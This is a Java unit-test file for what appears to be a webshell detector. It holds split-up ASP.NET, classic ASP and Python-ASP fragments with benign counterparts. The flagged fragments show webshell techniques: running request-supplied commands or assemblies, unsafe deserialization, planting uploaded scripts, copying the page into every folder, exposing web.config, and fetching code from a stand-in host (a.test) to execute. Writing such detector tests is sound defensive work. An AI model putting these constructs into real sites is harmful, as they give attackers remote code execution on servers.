package org.wachtpost.inspect.webshell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * The same ends by other means of the library, each beside the ordinary page that comes closest.
 * Constructs are written in pieces, so that no scanner takes this file for what it describes.
 */
class OtherMeansTest extends PageTest {
  private static final String SENT = REQ + "[\"q\"]";
  private static final String TEXT = REQ + "(\"q\")";

  @Test
  void methodsOfTheSystemByTheirNames() {
    String call = "typeof(%s).GetMeth" + "od(\"%s\").Invoke(null, new object[] { %s });";
    String start = call.formatted("System.Diagnostics.Pro" + "cess", "Start", SENT);
    assertThat(isShellInCsharp(start)).isTrue();
    assertThat(isShellInCsharp(call.formatted("System.IO.File", "ReadAllText", SENT))).isTrue();
    assertThat(isShellInCsharp(call.formatted("Shop.Basket", "Add", SENT))).isFalse();
    assertThat(isShellInCsharp(call.formatted("System.IO.File", "Exists", "\"a.txt\""))).isFalse();
  }

  @Test
  void assembliesThatTheClientNames() {
    assertThat(isShellInCsharp("AppDomain.CreateDomain(\"d\").ExecuteAss" + "embly(" + SENT + ");"))
        .isTrue();
    String from = "Activator.CreateInstanceFrom(%s, \"T\");";
    assertThat(isShellInCsharp(from.formatted(SENT))).isTrue();
    assertThat(isShellInCsharp(from.formatted("Server.MapPath(\"~/bin/a.dll\")") + SENT + ";"))
        .isFalse();
    String both = "Activator.CreateInstance(" + SENT + ", " + REQ + "[\"t\"]);";
    assertThat(isShellInCsharp(both)).isTrue();
    String one = "Activator.CreateInstance(typeof(Page), new Reader(" + SENT + "));";
    assertThat(isShellInCsharp(one)).isFalse();
    String named = "System.Reflection.Assembly.LoadWithPart" + "ialName(%s);";
    assertThat(isShellInCsharp(named.formatted(SENT))).isTrue();
    assertThat(isShellInCsharp(named.formatted("\"System.Data\"") + "var s = " + SENT + ";"))
        .isFalse();
  }

  @Test
  void codeThatACompilerIsHanded() {
    String script = "Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScr" + "ipt.Create(%s);";
    assertThat(isShellInCsharp(script.formatted(SENT))).isTrue();
    assertThat(isShellInCsharp("var q = " + SENT + ";" + script.formatted("\"1 + 1\""))).isFalse();
    String compile =
        "var c = CSharpCompilation.Create(\"a\", new[] { CSharpSyntaxTree.ParseText(%s) });"
            + " var m = new MemoryStream(); c.Em"
            + "it(m);"
            + " System.Reflection.Assem"
            + "bly.Load(m.ToArray());";
    assertThat(isShellInCsharp(compile.formatted(SENT))).isTrue();
    assertThat(isShellInCsharp("var q = " + SENT + ";" + compile.formatted("\"class A {}\"")))
        .isFalse();
  }

  @Test
  void objectsOfClassesThatTheTextNames() {
    String contract = "new NetData" + "ContractSerializer().ReadObject(%s);";
    assertThat(isShellInCsharp(contract.formatted(REQ + ".InputStream"))).isTrue();
    String plain = "new DataContractSerializer(typeof(A)).ReadObject(%s);";
    assertThat(isShellInCsharp(plain.formatted(REQ + ".InputStream"))).isFalse();
    String json =
        "JsonConvert.DeserializeObject("
            + SENT
            + ", new JsonSerializerSettings {"
            + " TypeNameHandling = TypeName"
            + "Handling.%s });";
    assertThat(isShellInCsharp(json.formatted("All"))).isTrue();
    assertThat(isShellInCsharp(json.formatted("None"))).isFalse();
    String script = "new JavaScriptSerializer(%s).DeserializeObject(" + SENT + ");";
    assertThat(isShellInCsharp(script.formatted("new SimpleType" + "Resolver()"))).isTrue();
    assertThat(isShellInCsharp(script.formatted(""))).isFalse();
  }

  @Test
  void stylesheetsOfTheOldKind() {
    String load = "var d = new XmlDocument(); d.LoadXml(%s); var t = new Xsl" + "Transform();";
    assertThat(isShellInCsharp(load.formatted(SENT) + "t.Load(d);")).isTrue();
    String feed = load.formatted("\"<a/>\"") + "t.Load(Server.MapPath(\"a.xsl\"));";
    assertThat(isShellInCsharp(feed + "d.Load(" + SENT + ");")).isFalse();
  }

  @Test
  void commandsThatAnInvokerIsHanded() {
    String run = "using (var i = new Runspace" + "Invoke()) { i.Invoke(%s); }";
    assertThat(isShellInCsharp(run.formatted(SENT))).isTrue();
    String pipe = "space.CreatePipe" + "line(%s).Invoke();";
    assertThat(isShellInCsharp(pipe.formatted(SENT))).isTrue();
  }

  @Test
  void filesThatTheirOwnerNames() {
    String open = "var s = new System.IO.FileInfo(%s).OpenWr" + "ite(); s.Write(b, 0, 9);";
    String read = "var b = " + REQ + ".BinaryRead(9);";
    assertThat(isShellInCsharp(read + open.formatted(SENT))).isTrue();
    assertThat(isShellInCsharp(read + open.formatted("\"d:/logs/a.txt\""))).isFalse();
    String save = REQ + ".Save" + "As(%s, false);";
    assertThat(isShellInCsharp(save.formatted("Server.MapPath(" + SENT + ")"))).isTrue();
    assertThat(isShellInCsharp(save.formatted("\"d:/logs/a.txt\""))).isFalse();
    String xml = "var d = new XmlDocument(); d.LoadXml(%s); d.Save(%s);";
    String folder = REQ + "[\"f\"]";
    assertThat(isShellInCsharp(xml.formatted(SENT, folder))).isTrue();
    assertThat(isShellInCsharp(xml.formatted(SENT, "Server.MapPath(\"a.xml\")"))).isFalse();
    assertThat(isShellInCsharp(xml.formatted("\"<a/>\"", "Server.MapPath(" + folder + ")")))
        .isFalse();
  }

  @Test
  void uploadsIntoTheFolderOfTheApplication() {
    String save = "up.SaveAs(%s + %sup.FileName);";
    String page =
        "<%%@ Page Language=\"C#\" %%><asp:FileUpload ID=\"up\" runat=\"server\"/>"
            + "<script runat=\"server\">void B(object s, EventArgs e) { %s }</script>";
    String base = "AppDomain.CurrentDomain.BaseDir" + "ectory";
    assertThat(isShell(page.formatted(save.formatted(base, "")))).isTrue();
    assertThat(isShell(page.formatted(save.formatted("HttpRuntime.AppDomainApp" + "Path", ""))))
        .isTrue();
    assertThat(isShell(page.formatted(save.formatted(base, "\"docs/\" + ")))).isFalse();
  }

  @Test
  void recordsOpenedWithQueryAndDatabaseOfTheClient() {
    String records = "Set r = CreateObject(\"ADODB.Record" + "set\")";
    String open = "r.Open %s, %s";
    String other = REQ + "(\"c\")";
    assertThat(isShellInBasic(records, open.formatted(TEXT, other))).isTrue();
    assertThat(isShellInBasic(records, open.formatted("\"select 1 where a=\" & " + TEXT, "c")))
        .isFalse();
  }

  @Test
  void componentsThatStartProgramsInTheirOwnWay() {
    String make = "Set s = CreateObject(\"%s\")";
    String shell = make.formatted("Shell.Appli" + "cation");
    assertThat(isShellInBasic(shell, "s.Open " + TEXT)).isTrue();
    String macro = make.formatted("Excel.Application");
    assertThat(isShellInBasic(macro, "s.ExecuteExcel4" + "Macro " + TEXT)).isTrue();
    assertThat(isShellInBasic(macro, "s.Workbooks.Open \"d:\\a.xls\"", "x = " + TEXT)).isFalse();
    String task = make.formatted("Schedule.Serv" + "ice");
    assertThat(isShellInBasic(task, "s.Connect", "a.Path = " + TEXT)).isTrue();
    String any = "Set s = CreateObject(" + TEXT + ")";
    assertThat(isShellInBasic(any, EX + " \"s.\" & " + REQ + "(\"m\")")).isTrue();
  }

  @Test
  void theRequestReadAsADocument() {
    String load = "Set x = CreateObject(\"Msxml2.DOMDocument\")\nx.load %s";
    String run = EX + " x.selectSingleNode(\"//c\").text";
    assertThat(isShellInBasic(load.formatted(REQ), run)).isTrue();
    assertThat(isShellInBasic(load.formatted("\"d:\\a.xml\""), run)).isFalse();
  }

  @Test
  void pythonWithoutQuotes() {
    String page = "<%%@ Language=Python %%><%% %s %%>";
    assertThat(isShell(page.formatted("ex" + "ec(str(" + REQ + ".Form('c')))"))).isTrue();
    assertThat(isShell(page.formatted("Response.Write(" + REQ + ".Form('c'))"))).isFalse();
  }

  @Test
  void scriptFilesWhoseNameIsHeld() {
    String name = "p = Server.MapPath(\"%s\")";
    String open = "Set t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p)";
    assertThat(isShellInBasic(name.formatted("a.asp"), open, "t.Write " + TEXT)).isTrue();
    assertThat(isShellInBasic(name.formatted("a.txt"), open, "t.Write " + TEXT)).isFalse();
    String quoted = "t.Write \"Const Name = \"\"\" & " + TEXT + " & \"\"\"\"";
    assertThat(isShellInBasic(name.formatted("a.asp"), open, quoted)).isFalse();
    String code = "System.IO.File.WriteAllText(Server.MapPath(\"~/%s\"), " + SENT + ");";
    assertThat(isShellInCsharp(code.formatted("App_Code/a.cs"))).isTrue();
    assertThat(isShellInCsharp(code.formatted("App_Data/a.txt"))).isFalse();
  }

  @Test
  void uploadsCombinedWithTheFolderOfTheApplication() {
    String below = "up.SaveAs(System.IO.Path.Combine(HttpRuntime.AppDomainAppPath, %s));";
    String page =
        "<%%@ Page Language=\"C#\" %%><asp:FileUpload ID=\"up\" runat=\"server\"/>"
            + "<script runat=\"server\">void B(object s, EventArgs e) { %s }</script>";
    assertThat(isShell(page.formatted(below.formatted("up.FileName")))).isTrue();
    assertThat(isShell(page.formatted(below.formatted("\"docs\", up.FileName")))).isFalse();
  }

  @Test
  void whatAnotherServerSentIsKeptBeforeItRuns() {
    String fetch =
        "Set x = CreateObject(\"MSXML2.XML"
            + "HTTP\")\nx.Open \"GET\", \"http://a.test/\", 0\n"
            + "x.Send\nc = x.responseText";
    assertThat(isShellInBasic(fetch, EX + " c")).isTrue();
    assertThat(isShellInBasic(fetch, "Response.Write c", "e = 1\n" + EX + " e")).isFalse();
    String load =
        "var b = new WebClient().DownloadData(\"http://a.test/\");"
            + " System.Reflection.Assem"
            + "bly.Load(%s);";
    assertThat(isShellInCsharp(load.formatted("b"))).isTrue();
    assertThat(isShellInCsharp(load.formatted("\"System.Data\""))).isFalse();
  }

  @Test
  void codeOutOfAPicture() {
    String read = "Set s = CreateObject(\"ADODB.Stream\")\ns.LoadFromFile Server.MapPath(\"%s\")";
    assertThat(isShellInBasic(read.formatted("a.jpg"), EX + " s.ReadText")).isTrue();
    assertThat(isShellInBasic(read.formatted("a.jpg"), "Response.BinaryWrite s.Read")).isFalse();
  }

  @Test
  void aCopyOfThePageInEachFolder() {
    String each =
        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nFor Each d In"
            + " f.GetFolder(Server.MapPath(\"/\")).SubFolders\nf.CopyFile %s, d.Path & \"\\%s\"\n"
            + "Next";
    String own = REQ + ".ServerVariables(\"PATH_TRANSLATED\")";
    assertThat(isShellInBasic(each.formatted(own, "a.asp"))).isTrue();
    assertThat(isShellInBasic(each.formatted("Server.MapPath(\"a.gif\")", "a.gif"))).isFalse();
  }

  @Test
  void settingsOfTheSiteShown() {
    String read = "Response.Write(System.IO.File.ReadAllText(Server.MapPath(\"~/%s\")));";
    assertThat(isShellInCsharp(read.formatted("web.config"))).isTrue();
    assertThat(isShellInCsharp(read.formatted("news.html"))).isFalse();
    String copy = "System.IO.File.Copy(Server.MapPath(\"web.config\"), Server.MapPath(\"%s\"));";
    assertThat(isShellInCsharp(copy.formatted("a.txt"))).isTrue();
    assertThat(isShellInCsharp(copy.formatted("web.config.bak"))).isFalse();
  }
}
